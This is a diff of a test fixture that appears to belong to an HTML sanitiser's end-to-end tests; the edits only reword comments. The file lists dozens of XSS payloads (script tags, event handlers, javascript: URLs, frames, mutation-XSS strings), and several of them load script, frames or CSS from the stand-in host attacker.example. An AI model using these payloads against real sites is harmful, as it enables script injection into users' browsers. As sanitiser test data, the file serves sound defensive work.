@@ -1,11 +1,11 @@
 /**
- * Rich text that tries to run a script, load a frame or leave its place. Each would set `attacked` on window (or ask
- * for a URL of `attacker.example`) if it got through; e2e shows all of them, sanitised, to a real browser.
+ * Rich text that tries to run a script, load a frame or break out of its container. Each would set `attacked` on window
+ * (or request a URL of `attacker.example`) if it got through; e2e shows all of them, sanitised, in a real browser.
  */
 const RUN = "window.attacked=1";
 
 export const attackStrings: readonly string[] = [
-  // Scripts, plainly and in disguise
+  // Scripts, plain and obfuscated
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>`,
   `<scr<script>ipt>${RUN}</scr</script>ipt>`,
@@ -22,7 +22,7 @@ export const attackStrings: readonly string[] = [
   `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
   `<math><script>${RUN}</script></math>`,
   `&lt;script&gt;${RUN}&lt;/script&gt;`,
-  // Handlers
+  // Event handlers
   `<img src=x onerror=${RUN}>`,
   `<img src=x onerror="${RUN}">`,
   `<img src="x" OnErRoR='${RUN}'>`,
@@ -45,7 +45,7 @@ export const attackStrings: readonly string[] = [
   `<style onload="${RUN}"></style>`,
   `<p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
   `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">x</td></tr></table>`,
-  // URLs that run
+  // Executable URLs
   `<a href="javascript:${RUN}">x</a>`,
   `<a href="JaVaScRiPt:${RUN}">x</a>`,
   `<a href=" \u0001javascript:${RUN}">x</a>`,
@@ -70,7 +70,7 @@ export const attackStrings: readonly string[] = [
   `<form action="javascript:${RUN}"><button>x</button></form>`,
   `<button formaction="javascript:${RUN}">x</button>`,
   `<blockquote cite="javascript:${RUN}">x</blockquote>`,
-  // Frames, objects, and what changes the page
+  // Frames, objects, and elements that change the page
   `<iframe src="javascript:${RUN}"></iframe>`,
   `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
   `<frameset onload="${RUN}"><frame src="https://attacker.example"></frameset>`,
@@ -96,7 +96,7 @@ export const attackStrings: readonly string[] = [
   `<p style="color:red;background:u\\72l(https://attacker.example/x.png)">x</p>`,
   `<style>@import "https://attacker.example/x.css";</style>`,
   `<style>p{background:url(https://attacker.example/x.png)}</style>`,
-  // Parsers fooled into another reading
+  // Mutation XSS
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
   `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
   `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
